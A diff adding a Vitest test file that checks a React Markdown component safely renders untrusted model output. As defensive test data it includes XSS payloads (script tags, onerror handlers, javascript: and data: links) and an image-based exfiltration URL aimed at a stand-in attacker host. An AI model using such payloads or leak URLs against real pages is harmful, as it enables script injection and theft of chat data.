@@ -1,0 +1,129 @@
+// @vitest-environment happy-dom
+import { act } from 'react'
+import { createRoot } from 'react-dom/client'
+import { renderToStaticMarkup } from 'react-dom/server'
+import { afterEach, describe, expect, it, vi } from 'vitest'
+
+// Counts how often a block is parsed and rendered; the real renderer does the work.
+const renders = vi.hoisted(() => ({ count: 0 }))
+vi.mock('react-markdown', async (importOriginal) => {
+  const actual = await importOriginal<typeof import('react-markdown')>()
+  const Counted: typeof actual.default = (props) => {
+    renders.count += 1
+    return actual.default(props)
+  }
+  return { ...actual, default: Counted }
+})
+
+const { Markdown } = await import('./Markdown')
+const { safeUrl } = await import('./urls')
+
+const html = (text: string, streaming = false) => renderToStaticMarkup(<Markdown text={text} streaming={streaming} />)
+
+function parse(markup: string): HTMLElement {
+  const div = document.createElement('div')
+  div.innerHTML = markup
+  return div
+}
+
+describe('markdown safety (model output is untrusted)', () => {
+  const payloads = [
+    '<img src=x onerror="alert(1)">',
+    '<script>alert(1)</script>',
+    '<svg onload=alert(1)><circle/></svg>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
+    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+    '> <details open ontoggle=alert(1)>',
+  ]
+
+  it.each(payloads)('never turns raw HTML into elements: %s', (payload) => {
+    const root = parse(html(`Before\n\n${payload}\n\nafter`))
+    expect(root.querySelector('script, img, svg, iframe, details, [onerror], [onload], [onclick], [style]')).toBeNull()
+    // Shown as the text it is, not dropped.
+    expect(root.textContent).toContain(payload.split('\n').at(-1)?.replace(/^[|>] /, '').replace(/ \|$/, '').trim())
+  })
+
+  it.each([
+    '[click](javascript:alert(1))',
+    '[click](JaVaScRiPt:alert(1))',
+    '[click](  javascript:alert(1))',
+    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+    '[click](vbscript:msgbox)',
+    '<javascript:alert(1)>',
+  ])('drops dangerous link targets: %s', (md) => {
+    const root = parse(html(md))
+    for (const a of root.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').not.toMatch(/script|data:/i)
+    expect(root.innerHTML).not.toMatch(/href="\s*(javascript|data|vbscript):/i)
+  })
+
+  it('opens links in a new tab without giving it access to this page', () => {
+    const a = parse(html('[docs](https://example.com/x)')).querySelector('a')
+    expect(a?.getAttribute('href')).toBe('https://example.com/x')
+    expect(a?.getAttribute('target')).toBe('_blank')
+    expect(a?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+  })
+
+  it('does not load remote images (they could leak the chat); shows a link instead', () => {
+    const root = parse(html('![chart](https://evil.example/leak?q=secret)'))
+    expect(root.querySelector('img')).toBeNull()
+    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/leak?q=secret')
+  })
+
+  it('accepts only absolute http(s) and mailto URLs', () => {
+    expect(safeUrl('https://a.b/c')).toBe('https://a.b/c')
+    expect(safeUrl('mailto:a@b.c')).toBe('mailto:a@b.c')
+    expect(safeUrl('/relative')).toBe('')
+    expect(safeUrl('javascript:alert(1)')).toBe('')
+  })
+})
+
+describe('markdown rendering', () => {
+  it('renders GFM tables, highlighted code with its language and a copy button', () => {
+    const root = parse(html('| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```'))
+    expect(root.querySelectorAll('table td')).toHaveLength(2)
+    expect(root.querySelector('.code-lang')?.textContent).toBe('python')
+    expect(root.querySelector('pre code.hljs.language-python .hljs-string')?.textContent).toBe('"hi"')
+    expect(root.querySelector('.code-block button[aria-label="Copy code"]')).not.toBeNull()
+  })
+
+  it('while streaming, closes half-written emphasis and shows an unterminated fence as code', () => {
+    expect(parse(html('Some **bold te', true)).querySelector('strong')?.textContent).toBe('bold te')
+    const fence = parse(html('Code:\n\n```js\nconst a = 1', true))
+    expect(fence.querySelector('pre code')?.textContent).toContain('const a = 1')
+    // A half-written link shows its text, not raw brackets or a broken URL.
+    const link = parse(html('See [the docs](https://exa', true))
+    expect(link.textContent).toContain('the docs')
+    expect(link.textContent).not.toContain('](')
+  })
+})
+
+describe('memoised blocks', () => {
+  let root: ReturnType<typeof createRoot> | null = null
+  afterEach(() => {
+    act(() => root?.unmount())
+    root = null
+  })
+
+  it('re-renders only the last block as the answer grows', () => {
+    const container = document.createElement('div')
+    root = createRoot(container)
+    const start = '# Heading\n\nFirst paragraph.\n\n```js\nconst x = 1\n```\n\nGrowing'
+    renders.count = 0
+    act(() => root?.render(<Markdown text={start} streaming />))
+    expect(renders.count).toBe(4)
+
+    renders.count = 0
+    let text = start
+    for (const more of [' text', ' keeps', ' coming.']) {
+      text += more
+      act(() => root?.render(<Markdown text={text} streaming />))
+    }
+    // The same text again (e.g. a parent re-render) parses nothing.
+    act(() => root?.render(<Markdown text={text} streaming />))
+    // One render per update, all of them the last block.
+    expect(renders.count).toBe(3)
+    expect(container.querySelector('h1')?.textContent).toBe('Heading')
+  })
+})
